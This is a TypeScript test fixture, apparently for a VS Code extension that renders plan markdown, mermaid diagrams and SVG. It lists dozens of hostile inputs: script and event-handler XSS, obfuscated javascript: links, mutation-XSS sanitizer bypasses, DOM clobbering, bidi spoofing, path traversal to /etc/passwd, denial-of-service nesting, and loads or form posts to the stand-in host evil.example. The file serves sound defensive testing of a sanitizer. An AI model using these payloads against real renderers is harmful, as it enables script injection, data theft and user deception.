// Plans that try to run, load, navigate, restyle or mislead. Each would set `window.owned`, ask the network or move the page.
export interface HostilePlan {
  readonly name: string
  readonly markdown: string
}

const away = 'https://evil.example'
const run = 'window.owned=1'

export const hostilePlans: readonly HostilePlan[] = [
  { name: 'script element', markdown: `<script>${run}</script>\n\n<script src="${away}/a.js"></script>` },
  { name: 'image handler', markdown: `<img src=x onerror="${run}">` },
  {
    name: 'svg handler',
    markdown: `<svg onload="${run}"><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  },
  { name: 'svg script', markdown: `<svg><script href="${away}/x.js">${run}</script></svg>` },
  { name: 'svg use', markdown: `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>` },
  { name: 'focus handler', markdown: `<input autofocus onfocus="${run}"><details open ontoggle="${run}">x</details>` },
  {
    name: 'media',
    markdown: `<video src="${away}/v" onloadstart="${run}"></video><audio src="${away}/a" autoplay></audio>`,
  },
  {
    name: 'iframe',
    markdown: `<iframe src="${away}"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  },
  { name: 'object and embed', markdown: `<object data="${away}/o"></object><embed src="${away}/e"><applet code=x>` },
  { name: 'meta refresh', markdown: `<meta http-equiv="refresh" content="0;url=${away}">` },
  { name: 'base', markdown: `<base href="${away}/">\n\n[relative](a.ts)` },
  {
    name: 'stylesheet',
    markdown: `<link rel="stylesheet" href="${away}/s.css"><style>@import "${away}/i.css"; main{display:none}</style>`,
  },
  {
    name: 'style attribute',
    markdown: `<p style="position:fixed;inset:0;background:url(${away}/b)">over everything</p>`,
  },
  { name: 'form', markdown: `<form action="${away}"><input name="key"><button>Approve</button></form>` },
  {
    name: 'clobbering',
    markdown: '<a id="host"></a><form name="document"><input name="body"></form>\n\n# acquireVsCodeApi\n\n# approve',
  },
  {
    name: 'template and math',
    markdown: `<template><script>${run}</script></template><math><mtext><mglyph><style><img src=x onerror=${run}></style></mglyph></mtext></math>`,
  },
  { name: 'mutation by noscript', markdown: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>` },
  { name: 'mutation by svg style', markdown: `<svg></p><style><a id="</style><img src=1 onerror=${run}>"></svg>` },
  {
    name: 'mutation by math',
    markdown: `<math><mi//xlink:href="data:x,<script>${run}</script>"><form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  },
  {
    name: 'mutation by comment',
    markdown: `<!--><img src=x onerror=${run}>--> <![CDATA[><img src=x onerror=${run}>]]>`,
  },
  {
    name: 'javascript link',
    markdown: `[click](javascript:${run}) <javascript:${run}> [tab](java\tscript:${run}) [case](JaVaScRiPt:${run})`,
  },
  {
    name: 'javascript link by entities',
    markdown: `[a](&#106;avascript:${run}) [b](javascript&colon;${run}) [c](&#x6A;&#x61;vascript&#58;${run}) [d](%6Aavascript:${run})`,
  },
  { name: 'javascript reference', markdown: `[click][x]\n\n[x]: javascript:${run} "title"` },
  {
    name: 'command link',
    markdown:
      '[Approve](command:planMode.approve) [b](vscode://evil.ext/run) [c](vscode-insiders:x) [d](vscode-command:x)',
  },
  {
    name: 'data and file links',
    markdown: `[a](data:text/html,<script>${run}</script>) [b](file:///etc/passwd) [c](blob:${away}/x) [d](about:blank)`,
  },
  {
    name: 'paths out of the workspace',
    markdown:
      '[a](../../etc/passwd) [b](/etc/passwd) [c](~/x) [d](\\\\host\\share) [e](//evil.example/x) [f](a/%2e%2e/%2e%2e/b)',
  },
  {
    name: 'remote images',
    markdown: `![one](${away}/1.png) ![two][i] [![three](${away}/3.png)](${away})\n\n[i]: ${away}/2.png`,
  },
  {
    name: 'image with data and handler',
    markdown: `![x](data:image/svg+xml,<svg/onload=${run}>) ![" onerror="${run}](x)`,
  },
  {
    name: 'attribute breakout',
    markdown: `[a](${away}/"onmouseover="${run}) [b](<${away}/x" onclick="${run}>) [c](a.ts '"><img src=x onerror=${run}>')`,
  },
  {
    name: 'fence breakout',
    markdown: `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\`\n\n\`\`\`html\n<script>${run}</script>\n\`\`\`\n\n\`</code><img src=x onerror=${run}>\``,
  },
  {
    name: 'table breakout',
    markdown: `| a |\n| - |\n| <img src=x onerror=${run}> |\n| </td></table><script>${run}</script> |`,
  },
  {
    name: 'bidirectional text',
    markdown:
      'Set `isAdmin\u202e // tsil \u2066eht\u2069 ni` and \u202emoc.live\u202c [safe\u2067](https://example.com/\u202egpj.exe)',
  },
  {
    name: 'deep nesting',
    markdown: `${'> '.repeat(3000)}deep\n\n${'- '.repeat(500)}deep\n\n${'['.repeat(3000)}x${']'.repeat(3000)}\n\n${'*'.repeat(5000)}`,
  },
  {
    name: 'huge table',
    markdown: `|${' h |'.repeat(60)}\n|${' - |'.repeat(60)}\n${`|${' c |'.repeat(60)}\n`.repeat(300)}`,
  },
  { name: 'one endless line', markdown: 'a'.repeat(200_000) },
  {
    name: 'null and control characters',
    markdown: `<img\u0000 src=x onerror=${run}> [a](java\u0000script:${run}) \u0001\u001b[31m`,
  },
  {
    name: 'footnotes',
    markdown: `a[^x"onclick=${run}] b[^<img/src=x/onerror=${run}>] c[^__proto__] d[^constructor] e[^1] f[^1] [^\u202eevil]\n\n[^x"onclick=${run}]: one\n[^<img/src=x/onerror=${run}>]: ![i](${away}/f.png) <script>${run}</script>\n[^__proto__]: [x](javascript:${run})\n[^constructor]: two\n[^1]: [^1] [^1]\n[^1]: again\n[^\u202eevil]: turned\n${'[^'.repeat(3000)}`,
  },
  {
    name: 'mermaid',
    markdown: [
      `graph TD\nA["<img src=x onerror=${run}>"] --> B\nclick A "javascript:${run}"\nclick B call run()\nstyle A fill:url(${away}/s)`,
      `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(${away}/t.css)"}}%%\ngraph LR\nA --> B`,
      `sequenceDiagram\nA->>B: <script>${run}</script>\nlinks A: {"x": "javascript:${run}"}`,
      `graph TD\n${'A --> '.repeat(5_000)}B`,
    ]
      .map(code => `\`\`\`mermaid\n${code}\n\`\`\``)
      .join('\n\n'),
  },
  {
    name: 'links with a misleading text',
    markdown: `[https://example.com](${away}/login) [src/config.ts](${away}/config) \`src/a.ts\` [\`src/a.ts\`](${away}) <${away}/a@example.com>`,
  },
  {
    name: 'bidirectional headings and code',
    markdown:
      '# A\u202eB\n\n## \u2066\u2067hidden\u2069\n\n## \u200b\u200b\n\n`\u202ets.a/crs`\n\n| \u202ea | b |\n| - | - |\n| 1\u2069 | 2 |',
  },
  {
    name: 'outline injection',
    markdown: `# T\n\n## <img src=x onerror=${run}>\n\n## [x](javascript:${run}) \`</code><script>${run}</script>\`\n\n## ![i](${away}/h.png)\n\n##\n\n## " onmouseover="${run}\n\nSetext <svg onload=${run}>\n---`,
  },
  {
    name: 'hostile names of files',
    markdown: `\`a/"onclick="${run}.ts\` [x](a/<b>.ts) \`../../../etc/passwd\` \`C:/Windows/x.ts\` \`__proto__/x.ts\` \`constructor\` \`toString()\``,
  },
  { name: 'ten thousand headings', markdown: Array.from({ length: 10_000 }, (_, at) => `## H ${at}`).join('\n') },
  {
    name: 'wide and long tables',
    markdown: `|${' h |'.repeat(500)}\n|${' - |'.repeat(500)}\n${`|${' c |'.repeat(500)}\n`.repeat(20)}\n\n| a |\n| - |\n${'| x |\n'.repeat(3_000)}`,
  },
  {
    name: 'nested lists, quotes and tables',
    markdown: `${Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- ${depth}`).join('\n')}\n\n${'> - '.repeat(200)}x`,
  },
]

const svg = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" ${attributes}><text x="1" y="2" fill="url(${away}/t)">words</text>${inside}</svg>`

/** Pictures that a drawing of a diagram must never become. */
export const hostilePictures: readonly string[] = [
  svg(`<script>${run}</script><script href="${away}/s.js"/>`),
  svg(
    `<foreignObject width="9" height="9"><img src=x onerror="${run}"><iframe src="${away}"></iframe></foreignObject>`,
  ),
  svg(
    `<image href="${away}/1.png"/><image xlink:href="${away}/2.png"/><use href="${away}/3.svg#x"/><feImage href="${away}/4"/>`,
  ),
  svg(`<style>@import url(${away}/a.css); text { fill: url(${away}/b) } svg { background: url(${away}/c) }</style>`),
  svg(
    `<a href="javascript:${run}"><text>link</text></a><a xlink:href="javascript:${run}"><rect width="9" height="9"/></a>`,
  ),
  svg(
    `<rect fill="url(${away}/f)" stroke="red" style="fill: url(${away}/g)" class="x" marker-end="url(${away}/m#a)" filter="url(${away}/n)"/>`,
  ),
  svg(
    `<rect width="9" onclick="${run}"><animate attributeName="href" values="javascript:${run}"/><set attributeName="onmouseover" to="${run}"/></rect>`,
    `onload="${run}"`,
  ),
  svg(
    `<title>t</title><desc><img src=x onerror=${run}></desc><metadata>m</metadata><mtext></mtext><![CDATA[<img src=x onerror=${run}>]]>`,
  ),
  `</svg><img src=x onerror=${run}>${svg('')}<img src=x onerror=${run}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">${svg('')}`,
  svg('<g>'.repeat(20_000)),
  'no picture at all',
  '',
]
